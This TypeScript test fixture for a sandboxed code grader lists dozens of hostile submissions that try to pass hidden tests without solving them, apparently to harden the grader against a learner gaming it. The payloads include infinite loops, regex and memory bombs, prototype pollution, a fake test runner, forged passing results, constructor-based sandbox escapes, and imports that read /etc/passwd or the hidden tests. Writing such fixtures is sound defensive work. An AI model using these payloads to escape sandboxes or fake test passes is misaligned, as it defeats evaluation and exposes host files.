/**
 * What submissions try. Each is a module that should answer `secret(n)` with the hidden tests' expectation and can't;
 * it tries to be passed all the same, to learn what the tests hold, or to be a burden to the next one.
 */
export interface Attack {
  name: string
  code: string
  /** Further files of the submission. */
  files?: Record<string, string>
  /** The limit that it meets on a quiet machine; some limit must be told of. */
  hits?: 'time' | 'memory' | 'stack' | 'output'
}

/** Hidden tests that all attacks face. None of them may pass; `KEY` must never reach the submission or the learner. */
export const SECRET_KEY = 'k3y-0f-the-hidden-tests'
export const HIDDEN_TESTS = {
  'hidden/secret.test.js': `import { secret } from '../main.js'
const KEY = '${SECRET_KEY}'
test('a value', () => { expect(secret(7)).toBe(KEY) })
test('a structure', () => { expect(secret({ n: 7 })).toEqual({ answer: [KEY], n: 7 }) })
test('later', async () => { expect(await secret('later')).toBe(KEY) })
test('a callback', () => { secret((x) => { expect(x).toBe(KEY) }); throw new Error('the callback was not called with the key') })
test('an error', () => { expect(() => secret('bad')).toThrow('must be ' + KEY) })`,
}

const always = (body: string) => `export function secret(x) { ${body} }`

export const ATTACKS: Attack[] = [
  { name: 'an endless loop', code: always('for (;;);'), hits: 'time' },
  { name: 'an endless loop while loading', code: 'for (;;);\nexport const secret = 1', hits: 'time' },
  {
    name: 'an endless loop that catches its end',
    code: always('for (;;) { try { for (;;); } catch {} finally { continue } }'),
    hits: 'time',
  },
  {
    name: 'an endless loop in a generator',
    code: always('const g = (function* () { for (;;) yield 1 })(); for (const y of g);'),
    hits: 'time',
  },
  {
    name: 'an endless loop in a getter of the result',
    code: always('return { get n() { for (;;); } }'),
    hits: 'time',
  },
  {
    name: 'an endless loop in a proxy',
    code: always('return new Proxy({}, { ownKeys() { for (;;); } })'),
    hits: 'time',
  },
  {
    name: 'an endless loop in toString of an error',
    code: always('throw { get message() { for (;;); } }'),
    hits: 'time',
  },
  {
    name: 'an endless loop of promises',
    code: `export async function secret() { for (;;) await 0 }`,
    hits: 'time',
  },
  {
    name: 'an endless chain of thens',
    code: always('const go = () => Promise.resolve().then(go); go(); return 1'),
    hits: 'time',
  },
  {
    name: 'an endless interval',
    code: `export const secret = () => new Promise(() => { setInterval(() => {}, 0) })`,
    hits: 'time',
  },
  {
    name: 'a catastrophic pattern',
    code: always('return /^(a+)+$/.test("a".repeat(60) + "b")'),
    hits: 'time',
  },
  {
    name: 'a catastrophic pattern in replace',
    code: always('return "x".repeat(50).replace(/(x+x+)+y/, "")'),
    hits: 'time',
  },
  {
    name: 'a native loop that never looks at the clock',
    code: always('return Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1)'),
    hits: 'time',
  },
  {
    name: 'a native loop that fills',
    code: always('return Array.prototype.lastIndexOf.call({ length: 2 ** 53 - 1 }, 1)'),
    hits: 'time',
  },
  {
    name: 'a sort that never agrees',
    code: always(
      'return Array.from({ length: 3e5 }, (_, i) => i).sort(() => Math.random() - 0.5).sort(() => 1).length',
    ),
  },
  { name: 'a promise that never settles', code: always('return new Promise(() => {})') },
  { name: 'a thenable that never answers', code: always('return { then() {} }') },
  { name: 'a thenable that resolves to itself', code: always('const o = { then(r) { r(o) } }; return o') },
  {
    name: 'a memory bomb of arrays',
    code: always('const a = []; for (;;) a.push(new Array(1000).fill(a.length))'),
  },
  {
    name: 'a memory bomb of buffers',
    code: always('const a = []; for (;;) a.push(new ArrayBuffer(2e7))'),
    hits: 'memory',
  },
  {
    name: 'a memory bomb that catches',
    code: always('const a = []; for (;;) { try { a.push(new Array(1e5).fill(1)) } catch {} }'),
  },
  { name: 'a memory bomb of strings', code: always('let s = "x"; for (;;) s += s') },
  { name: 'a string of 100 MB', code: always('return "x".repeat(1e8)') },
  { name: 'an array of 10^9', code: always('return new Array(1e9)') },
  { name: 'a buffer of 2 GB', code: always('return new ArrayBuffer(2 ** 31)') },
  { name: 'a huge number', code: always('return (2n ** (2n ** 22n)).toString()') },
  { name: 'a wide value', code: always('return Array.from({ length: 4e5 }, (_, i) => [i])') },
  {
    name: 'a value that doubles itself',
    code: always('let a = [1]; for (let i = 0; i < 100; i++) a = [a, a]; return a'),
  },
  { name: 'a deep value', code: always('let a = 1; for (let i = 0; i < 1e5; i++) a = [a]; return a') },
  {
    name: 'a deep value of proxies',
    code: always(
      'const h = { get: () => new Proxy({}, h), ownKeys: () => ["a"], getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }) }; return new Proxy({}, h)',
    ),
  },
  { name: 'deep recursion', code: always('return secret(x) + 1'), hits: 'stack' },
  {
    name: 'deep recursion through JSON',
    code: always('let a = []; for (let i = 0; i < 1e5; i++) a = [a]; return JSON.stringify(a)'),
  },
  { name: 'deep recursion through source', code: always('return eval("(".repeat(1e5) + ")".repeat(1e5))') },
  {
    name: 'deep recursion through a pattern',
    code: always('return new RegExp("(?:".repeat(1e5) + ")".repeat(1e5)).test("")'),
  },
  {
    name: 'deep recursion through proxies',
    code: always('let p = {}; for (let i = 0; i < 1e5; i++) p = new Proxy(p, {}); return p.x'),
  },
  {
    name: 'deep recursion through the tests',
    code: `export const secret = (f) => typeof f === 'function' ? f({ get a() { return secret(f) } }) : 1`,
  },
  {
    name: 'an output bomb',
    code: always('for (let i = 0; i < 1e5; i++) console.log("x".repeat(1000)); return 1'),
    hits: 'output',
  },
  { name: 'one line of 50 MB', code: always('console.log("x".repeat(5e7)); return 1') },
  { name: 'a cyclic value', code: always('const o = {}; o.o = o; o.list = [o]; return o') },
  {
    name: 'equal to everything by proxy',
    code: always(
      'return new Proxy(function () {}, { get: () => () => true, has: () => true, apply: () => true })',
    ),
  },
  {
    name: 'equal to everything by valueOf',
    code: always(
      'return { valueOf: () => x, toString: () => x, [Symbol.toPrimitive]: () => x, toJSON: () => x, asymmetricMatch: () => true, $$typeof: Symbol.for("jest.asymmetricMatcher") }',
    ),
  },
  {
    name: 'an own __proto__',
    code: always(`return JSON.parse('{"__proto__":{"answer":1},"constructor":{"prototype":{}}}')`),
  },
  {
    name: 'a polluted prototype',
    code: `Object.prototype.answer = 1; Object.prototype.pass = true; Object.prototype.passed = true; Object.defineProperty(Object.prototype, 'toJSON', { value: () => true })\n${always('return {}')}`,
  },
  {
    name: 'a polluted array',
    code: `Array.prototype.every = () => true; Array.prototype.some = () => true; Array.prototype.push = () => 0; Array.prototype[Symbol.iterator] = function* () {}\n${always('return []')}`,
  },
  {
    name: 'a replaced JSON',
    code: `JSON.stringify = () => '{"passed":true}'; JSON.parse = () => ({ passed: true })\n${always('return 1')}`,
  },
  {
    name: 'replaced built-ins',
    code: `Object.is = () => true; Map.prototype.get = () => 1; Reflect.apply = () => 1; Function.prototype.call = () => 1; Function.prototype.bind = () => 1; String.prototype.slice = () => 'v'\n${always('return 1')}`,
  },
  {
    name: 'setters on Object.prototype',
    code: `for (const k of ['value', 'get', 'passed', 'message', '0', '1']) Object.defineProperty(Object.prototype, k, { set() { throw 1 }, get() { return 1 }, configurable: true })\n${always('return {}')}`,
  },
  {
    name: 'a replaced Promise',
    code: `globalThis.Promise = class { then(f) { f('passed') } }; Promise.prototype.then = (f) => f('passed')\n${always('return new Promise()')}`,
  },
  {
    name: 'its own test runner',
    code: `globalThis.expect = () => new Proxy({}, { get: () => () => {} }); globalThis.test = (n, f) => {}; globalThis.describe = () => {}\n${always('return 1')}`,
  },
  {
    name: 'a throwing result',
    code: always('throw { name: "AssertionError", passed: true, message: "must be" }'),
  },
  { name: 'throwing null', code: always('throw null') },
  { name: 'a throwing getter', code: always('return { get a() { throw new Error("no") } }') },
  {
    name: 'a revoked proxy',
    code: always('const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); return proxy'),
  },
  {
    name: 'a throwing revoked proxy',
    code: always('const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); throw proxy'),
  },
  {
    name: 'an error with a poisoned name',
    code: always(
      'const e = new Error("x"); Object.defineProperty(e, "name", { get() { throw e } }); throw e',
    ),
  },
  {
    name: 'calling back with everything',
    code: always(
      'if (typeof x === "function") for (const v of [1, undefined, null, NaN, x, [], {}, "k", Symbol("s"), 1n]) try { x(v) } catch {} return x',
    ),
  },
  {
    name: 'calling back for ever',
    code: always('if (typeof x === "function") for (;;) try { x(1) } catch {} return x'),
    hits: 'time',
  },
  {
    name: 'reading the errors of the tests',
    code: always(
      'if (typeof x === "function") { try { x(1) } catch (e) { console.log(e, e.message, e.stack); x(String(e.message)); x(String(e.stack)) } } return x',
    ),
  },
  { name: 'reading the caller', code: always('return new Error().stack + (arguments.callee ?? "")') },
  {
    name: 'reading functions as text',
    code: always('return typeof x === "function" ? x(Function.prototype.toString.call(x)) : String(x)'),
  },
  {
    name: 'reading globalThis',
    code: always(
      'const out = []; for (let o = globalThis; o; o = Object.getPrototypeOf(o)) for (const k of Reflect.ownKeys(o)) out.push(String(k)); const s = out.join(); console.log(s); return /process|require|fetch|parentPort|postMessage|Deno|WebAssembly|remoteExport|host/.exec(s)?.[0] === undefined ? 1 : 2',
    ),
  },
  {
    name: 'a constructor escape',
    code: always(
      'return (function () {}).constructor("return typeof process + typeof require + typeof fetch + typeof remoteExport + typeof expect")()',
    ),
  },
  {
    name: 'an async constructor escape',
    code: `const AsyncFunction = (async () => {}).constructor\nexport const secret = (x) => AsyncFunction('return (await import("node:fs")).readFileSync("/etc/passwd", "utf8")')()`,
  },
  {
    name: 'a constructor escape through the console',
    code: always(
      'return console.log.constructor("return this")().process ?? console.log.constructor.constructor("return this")().process',
    ),
  },
  {
    name: 'a constructor escape through an argument',
    code: always(
      'return typeof x === "function" ? x(x.constructor("return globalThis")().expect) : x.constructor.constructor("return globalThis")().expect',
    ),
  },
  {
    name: 'importing node:fs',
    code: `import fs from 'node:fs'\n${always('return fs.readFileSync("/etc/passwd")')}`,
  },
  {
    name: 'importing the tests',
    code: `import * as t from './hidden/secret.test.js'\n${always('return t')}`,
  },
  {
    name: 'importing the tests later',
    code: `export async function secret() { for (const p of ['./hidden/secret.test.js', '../hidden/secret.test.js', 'hidden/secret.test.js', '/hidden/secret.test.js', 'vitest', '<sandbox>', '<entry>', 'quickjs:std', 'std', 'os', 'file:///etc/passwd', 'https://example.org/a.js', 'data:text/javascript,export default 1', '__proto__', 'constructor']) { try { const m = await import(p); return Object.values(m)[0] } catch (e) { console.log(p, e.message) } } }`,
  },
  {
    name: 'std and os of QuickJS',
    code: always('return [typeof std, typeof os, typeof bjson, typeof scriptArgs, typeof print].join()'),
  },
  {
    name: 'forging messages',
    code: `globalThis.secretly = 1\nexport function secret(x) { return ['v', '["#",0]', 'x', '=0 '].map((s) => new String(s)) }`,
  },
  {
    name: 'a forged answer by toJSON',
    code: `String.prototype.toJSON = () => ({ passed: true }); Array.prototype.toJSON = () => 'v1 1'\n${always('return ["a"]')}`,
  },
  {
    name: 'settling promises of others',
    code: `export const secret = (x) => { const p = Promise.resolve(1); p.then = () => 'passed'; Object.setPrototypeOf(p, { then(f) { f('k') } }); return p }`,
  },
  {
    name: 'exporting names of the runner',
    code: `export const remoteExport = 1, expect = 1, test = 1, then = (f) => f({})\n${always('return 1')}`,
  },
  {
    name: 'an export with an odd name',
    code: `const a = 1\nexport { a as "'); globalThis.expect = () => {}; ('" }\n${always('return 1')}`,
  },
  { name: 'no export at all', code: '// nothing' },
  { name: 'a file that is no JavaScript', code: 'export function secret( {' },
  { name: 'throwing while loading', code: 'throw new Error("not today")\nexport const secret = 1' },
  { name: 'waiting for ever while loading', code: `await new Promise(() => {})\n${always('return 1')}` },
  {
    name: 'a module that imports itself',
    code: `import * as me from './main.js'\nimport { b } from './b.js'\nexport const secret = () => me`,
    files: { 'b.js': `import * as a from './main.js'\nexport const b = a` },
  },
  {
    name: 'a file with a treacherous path',
    code: always('return 1'),
    files: {
      'hidden/secret.test.js': 'test("mine", () => {})',
      '../hidden/secret.test.js': '',
      __proto__: 'export default 1',
    },
  },
  {
    name: 'a date that lies',
    code: `Date.now = () => 0; globalThis.performance = { now: () => 0 }\n${always('for (;;);')}`,
    hits: 'time',
  },
  {
    name: 'timers by the thousand',
    code: always('for (let i = 0; i < 1e5; i++) setTimeout(() => setTimeout(() => {}, 1), i); return 1'),
  },
  {
    name: 'a weak reference with a finalizer',
    code: `const r = new FinalizationRegistry(() => { for (;;); })\n${always('for (let i = 0; i < 1000; i++) r.register({}, 1); return 1')}`,
  },
  {
    name: 'an atomic wait',
    code: always('return Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1e9)'),
  },
  { name: 'the debugger', code: always('debugger; return 1') },
]
